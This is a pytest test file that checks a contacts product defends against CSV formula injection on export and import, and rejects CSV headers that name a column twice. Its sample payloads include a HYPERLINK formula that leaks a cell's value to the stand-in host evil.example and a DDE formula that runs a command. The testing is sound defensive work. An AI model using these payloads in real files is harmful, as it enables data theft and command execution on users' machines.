"""CSV the product writes is read by a spreadsheet as text, and read back by the product as written (issue 33).

Finding 10 (CSV injection) and a CSV header that names a column twice,
against a stack at the shipped settings.
"""

import csv
import io
import json

import pytest
import requests

from apiclient import TIMEOUT, v1
from conftest import reset, running_stack
from core.csv_cells import neutralised, restored

FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)",
            "+79991234567", "-2+3", "\tTAB", "\rCR"]
# Cells the rule must leave alone, or must round-trip through an added quote.
PLAIN = ["Artem", "", "'quoted", "''", "a=b", "'=already quoted", "''+two quotes", "1+1"]
# The first characters a spreadsheet starts a formula with (OWASP, "CSV Injection").
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def shipped_services(tmp_path_factory):
    with running_stack(tmp_path_factory, "csvcells", shipped=True) as running:
        yield running


@pytest.fixture
def stack(shipped_services):
    """The module's stack at the shipped settings, emptied (the CLI fixtures use it)."""
    reset(shipped_services)
    return shipped_services


@pytest.mark.parametrize("cell", FORMULAS + PLAIN)
def test_a_cell_goes_out_as_text_and_comes_back_as_it_was(cell):
    written = neutralised(cell)
    assert not written.startswith(STARTS)
    assert restored(written) == cell


def test_a_cell_that_starts_no_formula_is_written_as_it_is():
    assert [neutralised(cell) for cell in ("Artem", "a=b", "'quoted", "")] == ["Artem", "a=b", "'quoted", ""]
    assert neutralised("+7999") == "'+7999" and restored("'+7999") == "+7999"


def book_with_formulas():
    """Contacts whose IDs and fields start formulas (tab and CR are control characters, refused in both)."""
    cells = [cell for cell in FORMULAS if not cell.startswith(("\t", "\r"))] + ["'=already quoted"]
    return [{"name": f"c{i}", "telegram": cell, "whatsapp": "+79991234567", "viber": "",
             "fields": {"note": cell}} for i, cell in enumerate(cells)]


def test_the_cli_exports_no_formula_and_reads_its_export_back(cli, tmp_path):
    source = tmp_path / "source.json"
    source.write_text(json.dumps(book_with_formulas()))
    assert cli("contacts", "import", str(source)).exit_code == 0
    exported = tmp_path / "book.csv"
    assert cli("contacts", "export", str(exported)).exit_code == 0
    with exported.open(newline="", encoding="utf-8") as text:
        rows = list(csv.reader(text))
    cells = [cell for row in rows[1:] for cell in row]
    # What a spreadsheet sees: no cell starts a formula.
    assert [cell for cell in cells if cell.startswith(STARTS)] == []
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in cells
    assert rows[1][2] == "'+79991234567"

    before = json.loads(cli("contacts", "ls", "--json").stdout)
    cli("contacts", "edit", "c3", "--whatsapp", "+70000000000")
    back = cli("contacts", "import", "--replace", str(exported))
    assert back.exit_code == 0, back.output
    assert json.loads(cli("contacts", "ls", "--json").stdout) == before
    assert before[3]["whatsapp"] == "+79991234567" and before[0]["fields"]["note"] == FORMULAS[0]


def test_the_api_reads_a_quoted_cell_as_the_cli_wrote_it(stack, token, cli, tmp_path):
    exported = tmp_path / "book.csv"
    source = tmp_path / "source.json"
    source.write_text(json.dumps(book_with_formulas()))
    cli("contacts", "import", str(source))
    cli("contacts", "export", str(exported))
    before = v1(stack, token, "GET", "/contacts").json()
    reply = requests.post(f"{stack.api_url}/api/v1/contacts/import", params={"mode": "replace"},
                          data=exported.read_bytes(), timeout=TIMEOUT,
                          headers={"Authorization": f"Bearer {token}", "Content-Type": "text/csv"})
    assert reply.status_code == 200, reply.text
    assert reply.json() == {"added": 0, "replaced": len(before), "removed": 0}
    assert v1(stack, token, "GET", "/contacts").json() == before
    assert before[3]["whatsapp"] == "+79991234567"


@pytest.mark.parametrize("header, column", [("name,telegram,name", "name"),
                                            ("name,viber,telegram,viber", "viber"),
                                            ("name,field.code,field.code", "field.code")])
def test_a_header_that_names_a_column_twice_is_a_422_naming_it(stack, token, cli, tmp_path,
                                                                header, column):
    text = f"{header}\n" + ",".join("x" for _ in header.split(",")) + "\n"
    reply = requests.post(f"{stack.api_url}/api/v1/contacts/import", data=text.encode(), timeout=TIMEOUT,
                          headers={"Authorization": f"Bearer {token}", "Content-Type": "text/csv"})
    assert reply.status_code == 422, reply.text
    assert reply.json()["message"] == f"The CSV's header line names column {column!r} twice."
    assert reply.json()["errors"] == {"csv": {"line 1": [f"Names {column!r} twice."]}}
    book = tmp_path / "book.csv"
    book.write_text(text)
    result = cli("contacts", "import", str(book))
    assert result.exit_code == 1
    assert result.output == f"Error: {book}: line 1: the header names column {column!r} twice.\n"
    assert v1(stack, token, "GET", "/contacts").json() == []


def test_csv_written_by_python_with_a_quoted_phone_reads_as_the_number(stack, token):
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([["name", "whatsapp"], ["Artem", "'+79991234567"],
                                                     ["Lera", "'quoted"]])
    reply = requests.post(f"{stack.api_url}/api/v1/contacts/import", data=out.getvalue().encode(),
                          timeout=TIMEOUT,
                          headers={"Authorization": f"Bearer {token}", "Content-Type": "text/csv"})
    assert reply.status_code == 200, reply.text
    assert [(c["name"], c["whatsapp"]) for c in v1(stack, token, "GET", "/contacts").json()] == [
        ("Artem", "+79991234567"), ("Lera", "'quoted")]
